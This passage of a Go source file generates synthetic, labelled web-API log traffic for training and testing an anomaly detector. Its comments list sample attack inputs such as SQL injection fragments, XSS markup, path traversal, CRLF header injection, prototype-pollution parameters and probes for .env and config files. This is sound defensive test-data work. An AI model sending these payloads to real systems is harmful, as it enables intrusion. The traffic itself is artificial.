package simulate

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"sort"
	"strconv"
	"strings"
	"time"

	"github.com/gatewatch/gatewatch/ingest"
)

// APIConfig configures APIRequests. The zero value works.
type APIConfig struct {
	// Seed selects the traffic: the same configuration always yields the
	// same bytes.
	Seed uint64
	// Start is the time of the first request; zero means
	// APIDefaultStart. Timestamps advance a fraction of a second per
	// request.
	Start time.Time
	// Learn is the number of normal requests that come first, with no
	// attack among them (the learning period): 0 means 20,000, a negative
	// number none.
	Learn int
	// Normal is the number of normal requests after the learning period:
	// 0 means 20,000, a negative number none.
	Normal int
	// Attacks is the number of attack requests, interleaved at random
	// among the Normal ones: 0 means 2,000, a negative number none. With
	// at least len(APIAttackKinds()) attacks every kind is present.
	Attacks int
	// OnePerClient sends every request, normal or attack, from an address
	// of its own, as labelled request datasets do (so the several
	// deprecated_version requests come from several addresses too).
	// Otherwise a few hundred normal clients make many requests each, and
	// the attacks come from a small set of attacker addresses, with every
	// deprecated_version request from one client.
	OnePerClient bool
}

// RequestLabel is the ground truth of one generated log line.
type RequestLabel struct {
	Line   int    // 1-based line number in the log
	Client string // the client address as logged
	Attack string // "" for a normal request, else the attack kind (the Attack constants)
	// Param is the parameter the attack tampers with, as logged, when it
	// is one: a query parameter's name, or "{id}" for the path's id
	// segment. Empty for normal requests and for unknown_route,
	// probe_file and deprecated_version.
	Param string
}

// Request-level attack kinds, the values of RequestLabel.Attack.
const (
	// AttackTypeTamper puts SQL without quotes, or a word, where a number,
	// decimal, uuid, hex code, date or enum value belongs: id=1 OR 1=1,
	// qty=-1e309, since=now(). About one in four tampers with the path's
	// id instead of a query parameter.
	AttackTypeTamper = "type_tamper"
	// AttackSQLi puts quotes, UNION SELECT or SQL comments in a text or
	// identifier parameter (q, coupon, fields, sort, email).
	AttackSQLi = "sqli"
	// AttackXSS puts markup in a free-text parameter (q).
	AttackXSS = "xss"
	// AttackOverlong sends a value 10-50 times longer than any normal
	// value of that parameter: AAAA..., digits, junk or a base64 blob.
	AttackOverlong = "overlong"
	// AttackUnknownParam adds a parameter name normal traffic never uses:
	// debug=1, admin=true, __proto__[x]=1, price=0, a misspelled name.
	AttackUnknownParam = "unknown_param"
	// AttackUnknownRoute requests a path under a known prefix that is
	// never served: /api/v2/orders/export, /api/v2/internal/config.
	AttackUnknownRoute = "unknown_route"
	// AttackProbeFile requests backup, config or source files:
	// /api/v2/orders.bak, /.env, /config.php~, /WEB-INF/web.xml.
	AttackProbeFile = "probe_file"
	// AttackTraversal puts ../, %2e%2e%2f or %00 in a value (or in the
	// path's id segment).
	AttackTraversal = "traversal"
	// AttackCRLF puts %0d%0a and an injected header in a value.
	AttackCRLF = "crlf"
	// AttackDeprecatedVersion calls an /api/v1 operation, while all
	// normal traffic uses /api/v2.
	AttackDeprecatedVersion = "deprecated_version"
)

// APIAttackKinds lists the request-level attack kinds in a stable order.
func APIAttackKinds() []string {
	return []string{
		AttackTypeTamper, AttackSQLi, AttackXSS, AttackOverlong, AttackUnknownParam,
		AttackUnknownRoute, AttackProbeFile, AttackTraversal, AttackCRLF, AttackDeprecatedVersion,
	}
}

// attackShare is each kind's share of the attacks, in APIAttackKinds
// order, in percent.
var attackShare = [...]float64{20, 14, 10, 12, 12, 10, 9, 7, 4.5, 1.5}

// APIDefaultStart is the time of the first request when APIConfig.Start is
// zero: 2026-03-02T08:00:00Z.
func APIDefaultStart() time.Time { return time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC) }

const (
	defaultAPILearn   = 20_000
	defaultAPINormal  = 20_000
	defaultAPIAttacks = 2_000
	maxAPIRequests    = 2_000_000 // ~500 MB of log
	// apiMeanGap is the mean time between two requests.
	apiMeanGap = 200 * time.Millisecond
	// maxOverlong bounds an overlong value, keeping the request line
	// under nginx's default 8k buffer.
	maxOverlong = 7000
)

// APIRequests generates labelled request-level traffic for contract
// learning, as nginx "combined" log lines in time order with one label per
// line (Scenario labels clients; this labels requests).
//
// The traffic is a small shop API on /api/v2: 13 operations whose query
// parameters and path ids are typed (integers, decimals, UUIDs, hex
// codes, dates, enums, free text, codes, field lists, emails, tokens,
// front-end paths), called by browsers, a mobile app, partner
// integrations, developers' CLI tools, and monitors calling /health.
// Values vary as much as real ones (search words with non-ASCII letters,
// apostrophes, quotes and digits; several percent-encoders; optional and
// repeated parameters; parameter order; cache busters), and all of that
// variety shows during the learning period. Attacks are the Attack kinds:
// each looks like a normal request (same agents, plausible other
// parameters) but for the part its kind names.
//
// Only the counts of cfg can make it fail: more than 2,000,000 requests.
func APIRequests(cfg APIConfig) (log []byte, labels []RequestLabel, err error) {
	learn, normal, attacks, err := cfg.counts()
	if err != nil {
		return nil, nil, err
	}
	total := learn + normal + attacks
	g := newAPIGen(cfg, total, attacks)
	log = make([]byte, 0, total*240)
	labels = make([]RequestLabel, 0, total)
	left := attacks
	for i := range total {
		kind := ""
		if i >= learn && left > 0 && g.r.IntN(total-i) < left {
			kind = g.kinds[attacks-left]
			left--
		}
		label := g.request(kind)
		label.Line = i + 1
		labels = append(labels, label)
		log = g.appendLine(log)
		g.clock += time.Duration(g.r.ExpFloat64() * float64(apiMeanGap))
	}
	return log, labels, nil
}

// counts applies the defaults and checks the total.
func (cfg *APIConfig) counts() (learn, normal, attacks int, err error) {
	def := func(n, d int) int {
		switch {
		case n == 0:
			return d
		case n < 0:
			return 0
		}
		return n
	}
	learn = def(cfg.Learn, defaultAPILearn)
	normal = def(cfg.Normal, defaultAPINormal)
	attacks = def(cfg.Attacks, defaultAPIAttacks)
	if learn > maxAPIRequests || normal > maxAPIRequests || attacks > maxAPIRequests ||
		learn+normal+attacks > maxAPIRequests {
		return 0, 0, 0, fmt.Errorf("simulate: %d+%d+%d API requests: more than %d", learn, normal, attacks, maxAPIRequests)
	}
	return learn, normal, attacks, nil
}

// apiArch is a family of API callers.
type apiArch uint8

const (
	archBrowser apiArch = iota // the shop's web front end
	archMobile                 // the shop's mobile app
	archPartner                // server-to-server integrations
	archCLI                    // developers with curl and Postman
	archMonitor                // health checks
)

// apiClient is one caller: an address and its habits.
type apiClient struct {
	addr   string
	ua     string
	proto  string
	arch   apiArch
	style  uint8 // index into encStyles
	sorted bool  // its HTTP library sorts query parameters by name
	// cacheBust: a browser page whose script adds _=<time in ms> to every
	// GET, as jQuery's cache: false does.
	cacheBust bool
}

// encStyle is how a client percent-encodes query values.
type encStyle struct {
	plus bool   // spaces as '+' (HTML forms, urlencode); else %20
	keep string // characters left as they are besides the unreserved ones
}

// encStyles are the encoders of real clients. None leaves a space, '"',
// '\', '#', '%', '&' or '+' raw, so a value stays one nginx field and one
// query value.
var encStyles = [...]encStyle{
	{plus: true, keep: "*"},         // 0: HTML form submission (browsers)
	{keep: "!*'()"},                 // 1: JavaScript encodeURIComponent
	{keep: "!$'()*,;:@/"},           // 2: OkHttp, URLSession, Dart Uri (mobile apps)
	{plus: true},                    // 3: Python urlencode, Go url.QueryEscape
	{keep: "!$'()*,;:@/<>[]{}|^`="}, // 4: typed by hand (curl), attack tools
}

// archStyles are the encoders each archetype's clients use.
var archStyles = [...][]uint8{
	archBrowser: {0, 1}, archMobile: {2, 1}, archPartner: {3, 2}, archCLI: {4, 3}, archMonitor: {3},
}

// attackerStyles are the encoders attackers use.
var attackerStyles = []uint8{1, 3, 4}

// valueType is the shape of a parameter's normal values.
type valueType uint8

const (
	vNone    valueType = iota
	vInt               // a decimal integer in a small range
	vDecimal           // a signed decimal fraction (coordinates)
	vUUID              // a version-4 UUID
	vHex               // a fixed-length lower-case hex code
	vDate              // YYYY-MM-DD
	vEnum              // one of a few words or numbers
	vText              // free text: up to 6 words of letters (non-ASCII too), digits, punctuation
	vCode              // 6-10 upper-case letters and digits, or empty
	vList              // a comma-separated list of field names
	vEmail             // an email address
	vToken             // 22 base64url characters (redacted by the Normalizer)
	vPath              // a path of the shop's front end
)

// paramSpec is one query parameter of a route.
type paramSpec struct {
	name   string
	typ    valueType
	p      float64 // probability that a normal request carries it
	maxLen int     // no normal value is longer, percent-encoded
	multi  bool    // a request may carry it twice (a multiple-choice filter)
	// gen appends a normal value, percent-encoded the client's way.
	gen func(g *apiGen, b []byte) []byte
}

// apiRoute is one operation of the simulated shop API.
type apiRoute struct {
	route         // method, status on success, median body bytes
	prefix string // the path up to the id, or the whole path
	id     valueType
	idGen  func(g *apiGen, b []byte) []byte // appends the path's id; nil when there is none
	params []paramSpec
	w      [4]float64 // popularity with browser, mobile, partner and CLI clients
	pMiss  float64    // share answered miss: a 404 of an unknown id, a 409 for a new order
	miss   int
	p401   float64 // share answered 401 (expired sessions; failed logins)
	p304   float64 // share of GETs answered 304
}

var (
	apiCategories = []string{"electronics", "home-garden", "outdoor", "books", "toys", "grocery", "fashion", "beauty"}
	apiSorts      = []string{"relevance", "price_asc", "price_desc", "newest", "rating"}
	apiPerPage    = []string{"10", "20", "50"}
	apiStatuses   = []string{"pending", "paid", "shipped", "delivered", "cancelled", "refunded"}
	apiLangs      = []string{"en", "de", "fr", "es"}
	apiCurrencies = []string{"EUR", "USD", "GBP", "CHF"}
)

func enumParam(name string, p float64, values []string) paramSpec {
	n := 0
	for _, v := range values {
		n = max(n, len(v))
	}
	return paramSpec{name: name, typ: vEnum, p: p, maxLen: n, gen: func(g *apiGen, b []byte) []byte {
		return append(b, values[g.r.IntN(len(values))]...)
	}}
}

func intParam(name string, p float64, maxLen int, gen func(g *apiGen, b []byte) []byte) paramSpec {
	return paramSpec{name: name, typ: vInt, p: p, maxLen: maxLen, gen: gen}
}

func multi(ps paramSpec) paramSpec {
	ps.multi = true
	return ps
}

func pageParam(p float64) paramSpec { return intParam("page", p, 2, (*apiGen).page) }

// apiRoutes is the shop API on /api/v2. Read-only.
var apiRoutes = []apiRoute{
	{route: route{method: "GET", ok: 200, size: 14000}, prefix: "/api/v2/products", params: []paramSpec{
		multi(enumParam("category", 0.7, apiCategories)), pageParam(0.5), enumParam("per_page", 0.35, apiPerPage),
		enumParam("sort", 0.45, apiSorts), {name: "q", typ: vText, p: 0.25, maxLen: 130, gen: (*apiGen).text},
	}, w: [4]float64{22, 18, 8, 10}, p304: 0.04},
	{route: route{method: "GET", ok: 200, size: 4200}, prefix: "/api/v2/products/", id: vInt, idGen: (*apiGen).productID,
		params: []paramSpec{enumParam("currency", 0.15, apiCurrencies)},
		w:      [4]float64{20, 22, 15, 10}, pMiss: 0.03, miss: 404, p304: 0.08},
	{route: route{method: "GET", ok: 200, size: 12000}, prefix: "/api/v2/search", params: []paramSpec{
		{name: "q", typ: vText, p: 1, maxLen: 130, gen: (*apiGen).text}, enumParam("lang", 0.7, apiLangs), pageParam(0.15),
	}, w: [4]float64{14, 12, 2, 8}},
	{route: route{method: "GET", ok: 200, size: 9000}, prefix: "/api/v2/orders", params: []paramSpec{
		enumParam("status", 0.75, apiStatuses), {name: "since", typ: vDate, p: 0.4, maxLen: 10, gen: (*apiGen).date},
		{name: "customer", typ: vUUID, p: 0.25, maxLen: 36, gen: (*apiGen).uuid}, pageParam(0.3),
	}, w: [4]float64{3, 4, 20, 10}, p401: 0.02},
	{route: route{method: "GET", ok: 200, size: 1800}, prefix: "/api/v2/orders/", id: vUUID, idGen: (*apiGen).uuid,
		w: [4]float64{4, 6, 15, 8}, pMiss: 0.04, miss: 404, p401: 0.02},
	{route: route{method: "POST", ok: 201, size: 900}, prefix: "/api/v2/orders", params: []paramSpec{
		{name: "sku", typ: vHex, p: 1, maxLen: 8, gen: (*apiGen).sku}, intParam("qty", 1, 2, (*apiGen).qty),
		{name: "coupon", typ: vCode, p: 0.15, maxLen: 10, gen: (*apiGen).coupon},
	}, w: [4]float64{4, 5, 10, 4}, pMiss: 0.03, miss: 409, p401: 0.02},
	{route: route{method: "DELETE", ok: 204}, prefix: "/api/v2/orders/", id: vUUID, idGen: (*apiGen).uuid,
		w: [4]float64{1, 1, 2, 2}, pMiss: 0.03, miss: 404, p401: 0.02},
	{route: route{method: "GET", ok: 200, size: 700}, prefix: "/api/v2/users/", id: vInt, idGen: (*apiGen).userID,
		params: []paramSpec{{name: "fields", typ: vList, p: 0.55, maxLen: 60, gen: (*apiGen).fields}},
		w:      [4]float64{4, 5, 8, 10}, pMiss: 0.02, miss: 404, p401: 0.03},
	{route: route{method: "POST", ok: 200, size: 1100}, prefix: "/api/v2/login", params: []paramSpec{
		{name: "redirect", typ: vPath, p: 0.3, maxLen: 70, gen: (*apiGen).redirect},
	}, w: [4]float64{5, 4, 1, 6}, p401: 0.18},
	{route: route{method: "GET", ok: 200, size: 3000}, prefix: "/api/v2/stores", params: []paramSpec{
		{name: "lat", typ: vDecimal, p: 1, maxLen: 11, gen: (*apiGen).lat}, {name: "lon", typ: vDecimal, p: 1, maxLen: 11, gen: (*apiGen).lon},
		intParam("radius", 0.6, 2, (*apiGen).radius),
	}, w: [4]float64{3, 6, 2, 3}, p304: 0.05},
	{route: route{method: "GET", ok: 200, size: 6000}, prefix: "/api/v2/reviews", params: []paramSpec{
		intParam("product", 1, 5, (*apiGen).productID), intParam("rating", 0.35, 1, (*apiGen).rating),
		{name: "email", typ: vEmail, p: 0.04, maxLen: 60, gen: (*apiGen).email}, pageParam(0.25),
	}, w: [4]float64{8, 6, 4, 6}, pMiss: 0.01, miss: 404, p304: 0.05},
	{route: route{method: "GET", ok: 200, size: 2500}, prefix: "/api/v2/cart", params: []paramSpec{
		{name: "token", typ: vToken, p: 1, maxLen: 22, gen: (*apiGen).token},
	}, w: [4]float64{8, 9, 0, 4}, p401: 0.03},
	{route: route{method: "PUT", ok: 200, size: 400}, prefix: "/api/v2/cart/items/", id: vInt, idGen: (*apiGen).productID,
		params: []paramSpec{intParam("qty", 1, 2, (*apiGen).qty)},
		w:      [4]float64{4, 4, 0, 3}, pMiss: 0.02, miss: 404, p401: 0.02},
}

// apiHealth is the health check only monitors call.
var apiHealth = apiRoute{route: route{method: "GET", ok: 200, size: 15}, prefix: "/health"}

// apiV1Routes are the retired /api/v1 operations a legacy integration
// still calls. Read-only.
var apiV1Routes = []apiRoute{
	{route: route{method: "GET", ok: 200, size: 9000}, prefix: "/api/v1/orders", params: []paramSpec{
		enumParam("status", 0.9, apiStatuses), pageParam(0.5), enumParam("limit", 0.8, []string{"50", "100"}),
	}},
	{route: route{method: "GET", ok: 200, size: 1800}, prefix: "/api/v1/orders/", id: vUUID, idGen: (*apiGen).uuid},
	{route: route{method: "GET", ok: 200, size: 700}, prefix: "/api/v1/users/", id: vInt, idGen: (*apiGen).userID},
	{route: route{method: "GET", ok: 200, size: 4200}, prefix: "/api/v1/products/", id: vInt, idGen: (*apiGen).productID},
}

// apiParam is one query parameter of the request being built, its value
// percent-encoded as it goes on the wire.
type apiParam struct{ name, value string }

// apiGen is the state of one APIRequests run: one seeded stream, the
// clients, and the request being built.
type apiGen struct {
	r     *rand.Rand
	start time.Time
	clock time.Duration // since start
	one   bool          // OnePerClient
	used  map[netip.Addr]struct{}
	kinds []string // the attacks' kinds, in the order they are sent

	clients   []apiClient // normal clients other than monitors
	cum       []float64   // their cumulative activity
	monitors  []apiClient
	attackers []apiClient
	legacy    apiClient    // sends every deprecated_version request
	routeCum  [4][]float64 // cumulative route popularity per archetype
	routeW    []float64    // overall route popularity

	// The request being built.
	c       *apiClient
	fresh   apiClient // OnePerClient: the request's own client
	method  string
	path    []byte
	params  []apiParam
	referer string
	status  int
	ok      int     // the status of success: 201 for a new order, 204 for a deletion
	size    float64 // median body bytes on success
	bytes   int64
	city    int // the city of the last lat, for lon

	scratch []byte
	target  []byte
	ev      ingest.Event
}

func newAPIGen(cfg APIConfig, total, attacks int) *apiGen {
	g := &apiGen{
		r:     rand.New(rand.NewPCG(cfg.Seed, 0x6170692d72657173)),
		start: cfg.Start, one: cfg.OnePerClient, used: make(map[netip.Addr]struct{}),
	}
	if g.start.IsZero() {
		g.start = APIDefaultStart()
	}
	g.routeW = make([]float64, len(apiRoutes))
	for a := range g.routeCum {
		var sum float64
		g.routeCum[a] = make([]float64, len(apiRoutes))
		for i := range apiRoutes {
			sum += apiRoutes[i].w[a]
			g.routeCum[a][i] = sum
			g.routeW[i] += apiRoutes[i].w[a]
		}
	}
	g.kinds = g.attackKinds(attacks)
	if !g.one {
		g.fleet(total, attacks)
	}
	return g
}

// attackKinds deals out the attack kinds by attackShare, every kind at
// least once when n allows, in random order.
func (g *apiGen) attackKinds(n int) []string {
	kinds := APIAttackKinds()
	counts := make([]int, len(kinds))
	given := 0
	for i := range kinds {
		counts[i] = int(float64(n) * attackShare[i] / 100)
		if counts[i] == 0 && n >= len(kinds) {
			counts[i] = 1
		}
		given += counts[i]
	}
	for ; given > n; given-- {
		counts[slices.Index(counts, slices.Max(counts))]--
	}
	for i := 0; given < n; i = (i + 1) % len(kinds) {
		counts[i]++
		given++
	}
	seq := make([]string, 0, n)
	for i, k := range kinds {
		for range counts[i] {
			seq = append(seq, k)
		}
	}
	g.r.Shuffle(len(seq), func(i, j int) { seq[i], seq[j] = seq[j], seq[i] })
	return seq
}

// archShare is each archetype's share of the normal requests of
// OnePerClient runs, and of the clients otherwise (monitors aside).
var archShare = [...]float64{archBrowser: 0.44, archMobile: 0.32, archPartner: 0.15, archCLI: 0.07, archMonitor: 0.02}

func (g *apiGen) pickArch(share []float64) apiArch {
	u := g.r.Float64()
	for a, s := range share {
		if u < s {
			return apiArch(a)
		}
		u -= s
	}
	return archBrowser
}

// fleet makes the clients of a run without OnePerClient: a few hundred
// normal ones with heavy-tailed activity, two monitors, a few attackers
// and the legacy integration.
func (g *apiGen) fleet(total, attacks int) {
	n := min(max(total/140, 20), 400)
	var sum float64
	for range n {
		c := g.newClient(g.pickArch(archShare[:archMonitor]), false)
		w := g.r.ExpFloat64() * (0.2 + g.r.ExpFloat64())
		if c.arch == archPartner {
			w *= 4
		}
		sum += w
		g.clients = append(g.clients, c)
		g.cum = append(g.cum, sum)
	}
	for range 2 {
		g.monitors = append(g.monitors, g.newClient(archMonitor, false))
	}
	for range min(max(attacks/250, 3), 10) {
		g.attackers = append(g.attackers, g.newClient(g.attackerArch(), true))
	}
	g.legacy = g.newClient(archPartner, false)
}

func (g *apiGen) attackerArch() apiArch {
	return g.pickArch([]float64{archBrowser: 0.4, archMobile: 0, archPartner: 0.25, archCLI: 0.35})
}

// newClient draws a client of an archetype: an address no other client
// has, an agent, a protocol and an encoder.
func (g *apiGen) newClient(arch apiArch, attacker bool) apiClient {
	r := g.r
	var pools []pool
	var agents []string
	h2 := 0.0
	switch arch {
	case archBrowser:
		pools, agents, h2 = []pool{poolExternal, poolExternal, poolCGNAT, poolIPv6}, browserAgents, 0.9
	case archMobile:
		pools, agents, h2 = []pool{poolCGNAT, poolCGNAT, poolIPv6}, mobileAgents, 0.85
	case archPartner:
		pools, agents, h2 = []pool{poolExternal}, serverAgents, 0.3
	case archCLI:
		pools, agents, h2 = []pool{poolExternal, poolIPv6}, cliAgents, 0.1
	default:
		pools, agents = []pool{poolInternal}, monitorAgents
	}
	c := apiClient{arch: arch, proto: "HTTP/1.1"}
	for {
		a := randomAddr(r, pools[r.IntN(len(pools))])
		if _, dup := g.used[a]; !dup {
			g.used[a] = struct{}{}
			c.addr = a.String()
			break
		}
	}
	c.ua = agents[r.IntN(len(agents))]
	if r.Float64() < h2 {
		c.proto = "HTTP/2.0"
	}
	styles := archStyles[arch]
	if attacker {
		styles = attackerStyles
	}
	c.style = styles[r.IntN(len(styles))]
	c.sorted = arch == archPartner && r.IntN(3) == 0
	c.cacheBust = arch == archBrowser && r.IntN(3) == 0
	return c
}

// Normal values. Each generator appends one value, percent-encoded the
// current client's way.

var (
	// textWords are search words: digits, hyphens, apostrophes, an '&'
	// and the letters of the shop's four languages.
	textWords = []string{
		"running", "shoes", "jacket", "waterproof", "men's", "women's", "kids", "wool", "socks", "t-shirt",
		"organic", "cotton", "café", "crème", "brûlée", "München", "Zürich", "São", "Paulo", "jalapeño",
		"müsli", "größe", "schwarz", "weiß", "chaussures", "enfant", "été", "zapatillas", "niño", "bolso",
		"piel", "naïve", "iphone", "15", "pro", "case", "usb-c", "cable", "2m", "4k", "tv", "65", "inch",
		"hdmi", "2.1", "lego", "42115", "espresso", "beans", "1kg", "green", "tea", "oak", "table", "led",
		"lamp", "e27", "yoga", "mat", "6mm", "garden", "hose", "25m", "gift", "card", "50€", "h&m", "levi's",
		"501", "size", "42", "xl", "mug", "set", "of", "4", "dyson", "v15", "bosch", "drill", "18v",
		"nintendo", "switch", "oled", "kindle", "paperwhite", "harry", "potter", "union", "jack", "drop",
		"earrings", "select", "from", "rock", "'n'", "roll", "o'neill", "c++", "#1", "100%", "🎁",
	}
	// textLengths weights the number of words in a search.
	textLengths = []int{1, 1, 1, 1, 1, 2, 2, 2, 2, 2, 2, 3, 3, 3, 3, 4, 4, 4, 5, 5, 6}
	apiFields   = []string{"id", "name", "email", "address", "phone", "created_at", "locale", "avatar_url"}
	couponWords = []string{"WELCOME", "SPRING", "SUMMER", "BLACKFRI", "VIP", "FREESHIP", "STUDENT", "XMAS"}
	firstNames  = []string{"anna", "lukas", "marie", "jonas", "léa", "hugo", "lucia", "mateo", "emma", "noah", "sofia", "liam", "alexandra", "maximilian"}
	lastNames   = []string{"mueller", "schmidt", "martin", "bernard", "garcia", "fernandez", "rossi", "smith", "schneider", "dubois"}
	mailDomains = []string{"gmail.com", "web.de", "gmx.de", "orange.fr", "yahoo.es", "outlook.com", "t-online.de", "posteo.de", "icloud.com", "example.org"}
	// cities are where the shop has stores.
	cities = [][2]float64{
		{52.5200, 13.4050}, {48.1374, 11.5755}, {48.8566, 2.3522}, {40.4168, -3.7038}, {38.7223, -9.1393}, {51.5072, -0.1276},
		{47.3769, 8.5417}, {48.2082, 16.3738}, {52.3676, 4.9041}, {41.3874, 2.1686}, {53.3498, -6.2603}, {41.9028, 12.4964},
	}
)

// esc appends s percent-encoded in the current client's style.
func esc[S ~string | ~[]byte](g *apiGen, b []byte, s S) []byte {
	return escWith(b, s, encStyles[g.c.style])
}

// escWith appends s percent-encoded in style st: unreserved characters and
// st.keep as they are, a space as '+' when st.plus, anything else %XX.
func escWith[S ~string | ~[]byte](b []byte, s S, st encStyle) []byte {
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case 'a' <= c && c <= 'z', 'A' <= c && c <= 'Z', '0' <= c && c <= '9', c == '-', c == '.', c == '_', c == '~':
			b = append(b, c)
		case c == ' ' && st.plus:
			b = append(b, '+')
		case c > ' ' && c < 0x7f && strings.IndexByte(st.keep, c) >= 0:
			b = append(b, c)
		default:
			b = append(b, '%', "0123456789ABCDEF"[c>>4], "0123456789ABCDEF"[c&15])
		}
	}
	return b
}

func (g *apiGen) intIn(b []byte, lo, hi int) []byte {
	return strconv.AppendInt(b, int64(lo+g.r.IntN(hi-lo+1)), 10)
}

// page: mostly the first few pages, sometimes deep.
func (g *apiGen) page(b []byte) []byte {
	if g.r.IntN(100) < 65 {
		return g.intIn(b, 1, 3)
	}
	return g.intIn(b, 1, 50)
}

func (g *apiGen) productID(b []byte) []byte { return g.intIn(b, 1000, 99999) }

// userID: 1 to 6 digits, ids of old and new accounts alike.
func (g *apiGen) userID(b []byte) []byte {
	hi := 1
	for range 1 + g.r.IntN(6) {
		hi *= 10
	}
	return g.intIn(b, hi/10, hi-1)
}

// qty: mostly one to a few, but the whole range 1-99.
func (g *apiGen) qty(b []byte) []byte {
	if g.r.IntN(100) < 70 {
		return g.intIn(b, 1, 5)
	}
	return g.intIn(b, 1, 99)
}

func (g *apiGen) rating(b []byte) []byte { return g.intIn(b, 1, 5) }

func (g *apiGen) radius(b []byte) []byte {
	if g.r.IntN(2) == 0 {
		return g.intIn(b, 1, 50)
	}
	return strconv.AppendInt(b, int64([...]int{1, 2, 5, 10, 25, 50}[g.r.IntN(6)]), 10)
}

func (g *apiGen) uuid(b []byte) []byte { return appendUUID(b, g.r) }

func (g *apiGen) sku(b []byte) []byte {
	x := g.r.Uint32()
	for range 8 {
		b = append(b, hexDigits[x>>28])
		x <<= 4
	}
	return b
}

// date: a day in the year before the start.
func (g *apiGen) date(b []byte) []byte {
	return g.start.AddDate(0, 0, -1-g.r.IntN(365)).AppendFormat(b, time.DateOnly)
}

func (g *apiGen) lat(b []byte) []byte {
	g.city = g.r.IntN(len(cities))
	return g.coord(b, cities[g.city][0])
}

func (g *apiGen) lon(b []byte) []byte { return g.coord(b, cities[g.city][1]) }

// coord: near a city, with the 2-6 decimals apps and browsers send.
func (g *apiGen) coord(b []byte, at float64) []byte {
	return strconv.AppendFloat(b, at+0.3*(g.r.Float64()-0.5), 'f', 2+g.r.IntN(5), 64)
}

// token: a cart token, 16 random bytes in base64url.
func (g *apiGen) token(b []byte) []byte {
	var raw [16]byte
	for i := range raw {
		raw[i] = byte(g.r.Uint32())
	}
	return base64.RawURLEncoding.AppendEncode(b, raw[:])
}

// text: 1-6 search words, now and then capitalised, some with an exact
// phrase in double quotes or the space the user left at the end; rarely
// nothing at all (enter hit in an empty search box).
func (g *apiGen) text(b []byte) []byte {
	if g.r.IntN(50) == 0 {
		return b
	}
	var buf [160]byte
	t := buf[:0]
	n := textLengths[g.r.IntN(len(textLengths))]
	quote := n >= 2 && g.r.IntN(25) == 0
	for i := range n {
		if i > 0 {
			t = append(t, ' ')
		}
		if quote && i == 0 {
			t = append(t, '"')
		}
		w := textWords[g.r.IntN(len(textWords))]
		if 'a' <= w[0] && w[0] <= 'z' && g.r.IntN(7) == 0 {
			t = append(t, w[0]-'a'+'A')
			w = w[1:]
		}
		t = append(t, w...)
		if quote && i == 1 {
			t = append(t, '"')
		}
	}
	if g.r.IntN(30) == 0 {
		t = append(t, ' ')
	}
	return esc(g, b, t)
}

// shopPaths are front-end pages a login returns to.
var shopPaths = []string{"/", "/account", "/account/orders", "/cart", "/checkout", "/wishlist", "/product/", "/orders/", "/search?q="}

// redirect: the page to return to after a login; some carry an id or a
// search.
func (g *apiGen) redirect(b []byte) []byte {
	var buf [64]byte
	p := shopPaths[g.r.IntN(len(shopPaths))]
	t := append(buf[:0], p...)
	switch p {
	case "/product/":
		t = g.productID(t)
	case "/orders/":
		t = g.uuid(t)
	case "/search?q=":
		t = append(t, plainWords[g.r.IntN(len(plainWords))]...)
	}
	return esc(g, b, t)
}

// coupon: a campaign word and a number (SPRING25) or a random code; now
// and then the form's empty field.
func (g *apiGen) coupon(b []byte) []byte {
	switch g.r.IntN(20) {
	case 0:
		return b // the form's empty field
	case 1, 2, 3, 4, 5, 6, 7, 8, 9:
		w := couponWords[g.r.IntN(len(couponWords))]
		d := max(2, 6-len(w)) // digits: 6-10 characters in all
		return g.intIn(append(b, w...), pow10(d-1), pow10(d)-1)
	}
	for range 6 + g.r.IntN(5) {
		b = append(b, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"[g.r.IntN(32)])
	}
	return b
}

func pow10(n int) int {
	p := 1
	for range n {
		p *= 10
	}
	return p
}

// fields: 1-5 field names in the API's order.
func (g *apiGen) fields(b []byte) []byte {
	var buf [64]byte
	t := buf[:0]
	for n, i := 1+g.r.IntN(5), 0; n > 0; i++ {
		if g.r.IntN(len(apiFields)-i) >= n {
			continue
		}
		if len(t) > 0 {
			t = append(t, ',')
		}
		t = append(t, apiFields[i]...)
		n--
	}
	return esc(g, b, t)
}

// email: first.last, first+tag or first with digits, at a mail provider.
func (g *apiGen) email(b []byte) []byte {
	var buf [64]byte
	t := append(buf[:0], firstNames[g.r.IntN(len(firstNames))]...)
	switch g.r.IntN(4) {
	case 0, 1:
		t = append(t, '.')
		t = append(t, lastNames[g.r.IntN(len(lastNames))]...)
	case 2:
		t = append(t, "+shop"...)
	}
	if g.r.IntN(3) == 0 {
		t = strconv.AppendInt(t, int64(g.r.IntN(2000)), 10)
	}
	t = append(t, '@')
	t = append(t, mailDomains[g.r.IntN(len(mailDomains))]...)
	return esc(g, b, t)
}

// shopPages are the front-end pages browsers call the API from.
var shopPages = []string{
	"https://shop.example.com/", "https://shop.example.com/search", "https://shop.example.com/cart",
	"https://shop.example.com/checkout", "https://shop.example.com/account/orders", "https://shop.example.com/stores",
}

// request draws the next request (an attack of kind, or a normal one when
// kind is "") into g and returns its label, Line aside.
func (g *apiGen) request(kind string) RequestLabel {
	g.params, g.path, g.status, g.ok = g.params[:0], g.path[:0], 0, 200
	label := RequestLabel{Attack: kind}
	if kind == "" {
		g.c = g.normalClient()
		g.normal()
	} else {
		g.c = g.attacker(kind)
		label.Param = g.attack(kind)
	}
	g.order()
	if g.c.cacheBust && g.method == "GET" && bytes.HasPrefix(g.path, []byte("/api/")) &&
		kind != AttackUnknownRoute && kind != AttackProbeFile {
		// The page was loaded up to an hour ago. (Probes are typed by
		// hand, not sent by the page.)
		ms := g.start.Add(g.clock).UnixMilli() - int64(g.r.IntN(3_600_000))
		g.params = append(g.params, apiParam{"_", strconv.FormatInt(ms, 10)})
	}
	g.referer = ""
	if g.c.arch == archBrowser {
		g.referer = shopPages[g.r.IntN(len(shopPages))]
	}
	g.bytes = bodyBytes(g.r, &route{size: g.size}, g.status)
	label.Client = g.c.addr
	return label
}

// normalClient picks the sender of a normal request.
func (g *apiGen) normalClient() *apiClient {
	if g.one {
		g.fresh = g.newClient(g.pickArch(archShare[:]), false)
		return &g.fresh
	}
	if g.r.Float64() < archShare[archMonitor] {
		return &g.monitors[g.r.IntN(len(g.monitors))]
	}
	i := sort.SearchFloat64s(g.cum, g.r.Float64()*g.cum[len(g.cum)-1])
	return &g.clients[min(i, len(g.clients)-1)]
}

// attacker picks the sender of an attack.
func (g *apiGen) attacker(kind string) *apiClient {
	switch {
	case g.one:
		g.fresh = g.newClient(g.attackerArch(), true)
		return &g.fresh
